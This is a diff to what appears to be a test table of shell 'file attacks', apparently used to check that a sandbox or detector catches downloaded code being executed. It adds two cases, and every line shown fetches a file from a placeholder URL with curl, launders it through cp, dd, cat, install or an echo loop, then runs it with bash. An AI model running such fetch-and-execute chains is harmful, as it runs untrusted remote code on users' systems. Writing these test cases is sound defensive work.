@@ -61,6 +61,10 @@ const Attack kFileAttacks[] = {
                                   "cp @D/e @D/local.sh @D/f @D/d; bash @D/d/f"),
     FILE_CASE("cp of a folder", "mkdir @D/d; cp @D/local.sh @D/d; curl -s -o @D/d/f @URL; "
                                 "cp -r @D/d @D/c; bash @D/c/f"),
+    FILE_CASE("what another left",
+              "curl -s @URL | { dd count=0 status=none; cat > @D/f; }; bash @D/f"),
+    FILE_CASE("a loop of echo",
+              "curl -s @URL | while read -r l; do /bin/echo \"$l\" >> @D/f; done; bash @D/f"),
     FILE_CASE("install", "curl -s -o @D/f @URL; install -m 755 @D/f @D/g; bash @D/g"),
     FILE_CASE("dd", "curl -s -o @D/f @URL; dd if=@D/f of=@D/g status=none; bash @D/g"),
     FILE_CASE("cat into another", "curl -s -o @D/f @URL; cat @D/f > @D/g; bash @D/g"),
